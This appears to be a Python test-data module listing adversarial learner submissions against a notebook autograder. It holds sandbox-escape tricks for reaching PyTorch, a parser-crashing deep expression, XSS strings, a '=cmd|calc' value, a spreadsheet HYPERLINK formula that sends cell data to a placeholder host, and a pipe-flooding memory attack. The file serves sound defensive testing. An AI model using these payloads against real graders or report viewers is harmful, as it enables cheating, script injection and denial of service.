"""Issue #19's adaptive attacks, as data: written against the judge's source, one or more per
class of the issue (1 the from-scratch rules, 2 trusted code in the learner's reach, 3 reports,
4 collect, 5 limits, 6 the parser). tests/test_judge_rules_attacks.py grades them in one class
with honest controls in the same run.

Each attack is a learner folder built from an honest base (``blank``: worth 0; ``half``:
``double`` written, worth 3; ``full``: the reference solution, worth all; ``none``: no notebook)
plus code: ``bodies`` (new bodies for answer functions), ``prelude`` (code at the top of the
mean_square answer cell), ``cells`` (function name -> the whole new source of its answer cell),
``plant`` (a function of the test that plants files) and ``folder`` (the folder name, as bytes
where it is not UTF-8). ``honest`` is what the base earns; no attack may earn more.
"""

# Class 1: the from-scratch rule was a deny-list over the syntax tree; each of these reaches
# PyTorch from the NumPy-only mean_square without a word the old rules looked for.
TORCH_WITHOUT_THE_WORD = {
    "typing-sys": (
        "    import typing\n    t = typing.sys.modules['tor' + 'ch']\n"
        "    return float(t.mean(t.as_tensor(x) ** 2))"
    ),
    "dataclasses-builtins": (
        "    import dataclasses\n"
        "    t = dataclasses.builtins.__dict__['__imp' + 'ort__']('tor' + 'ch')\n"
        "    return float(t.mean(t.as_tensor(x) ** 2))"
    ),
    "generator-frame": (
        "    def g():\n        yield 1\n    gen = g()\n"
        "    frame = getattr(gen, 'gi_' + 'frame')\n"
        "    t = getattr(frame, 'f_' + 'globals')['tor' + 'ch']\n"
        "    return float(t.mean(t.as_tensor(x) ** 2))"
    ),
    "ctypeslib": (
        "    t = np.ctypeslib.ctypes.sys.modules['tor' + 'ch']\n"
        "    return float(t.mean(t.as_tensor(x) ** 2))"
    ),
}

# A cell that forbids nothing defines the NumPy task's function with torch; the task's own
# cell is emptied of it.
MOVED_ANSWER_DOUBLE_CELL = (
    "def double(x):\n    return 2 * x\n\n\n"
    "def mean_square(x):\n    return float(torch.mean(torch.as_tensor(x) ** 2))\n"
)

# An expression so deep that a recursive parser gives up while Python still compiles it.
DEEP = "0" + " + 0" * 2000
DEEP_TORCH_BODY = (
    f"    zero = {DEEP}\n"
    "    return float(torch.mean(torch.as_tensor(x) ** 2)) + zero"
)

# Class 2: trusted code in the learner's namespace. With `zip` rebound, the batch check's
# call returns no values, and a verdict that zips over them checks nothing.
ZIP_REBOUND = "zip = lambda *args: iter(())\n"

# Class 3: reports. An exception whose class name and message carry HTML and a lone surrogate.
HOSTILE_MESSAGE_BODY = (
    "    kind = type('<script>alert(1)</script>', (ValueError,), {})\n"
    "    raise kind('<img src=x onerror=alert(2)> \\udcff =cmd|calc')"
)

# Class 5: one learner's submission: a runner that sends a flood of frames the judge never
# asked for (each within the old per-frame limit), to raise the judge's own memory.
FRAME_FLOOD = """
import json
import os
import stat

blob = b"x" * (200 * 2**20)
for fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            for number in range(4):
                line = json.dumps({"type": "note", "n": number, "nbytes": len(blob)})
                os.write(fd, line.encode() + b"\\n")
                view = memoryview(blob)
                while view:
                    view = view[os.write(fd, view):]
            break
    except OSError:
        pass
"""

ATTACKS = [
    *[
        {"id": f"c1-{name}", "class": 1, "base": "half", "bodies": {"mean_square": body}}
        for name, body in TORCH_WITHOUT_THE_WORD.items()
    ],
    {"id": "c1-moved-answer", "class": 1, "base": "half",
     "cells": {"mean_square": "pass\n", "double": MOVED_ANSWER_DOUBLE_CELL}},
    {"id": "c1-deep-expression", "class": 1, "base": "half",
     "bodies": {"mean_square": DEEP_TORCH_BODY}},
    {"id": "c2-zip-rebound", "class": 2, "base": "blank", "prelude": ZIP_REBOUND},
    {"id": "c3-hostile-message", "class": 3, "base": "blank",
     "bodies": {"mean_square": HOSTILE_MESSAGE_BODY}},
    {"id": "c3-formula", "class": 3, "base": "blank",
     "folder": '=HYPERLINK("https:example.invalid?"&A1,"click")'},
    {"id": "c3-not-utf8", "class": 3, "base": "blank", "folder": b"caf\xe9"},
    {"id": "c3-tab", "class": 3, "base": "blank", "folder": "\tcmd"},
    {"id": "c3-seed-in-feedback", "class": 3, "base": "half", "bodies": {"mean_square": "HARD_CODED"}},
    {"id": "c4-hard-link", "class": 4, "base": "none", "plant": "hard_link_to_solution"},
    {"id": "c5-frame-flood", "class": 5, "base": "blank", "prelude": FRAME_FLOOD},
    {"id": "c6-deep-honest", "class": 6, "base": "full", "deep": True},
]

# Two folder names that an unsafe file-name mapping sends to one file: the full one must keep
# its own page. (Both are graded as learners; "A b" is the reference solution.)
COLLIDING = ["A b", "A_b"]
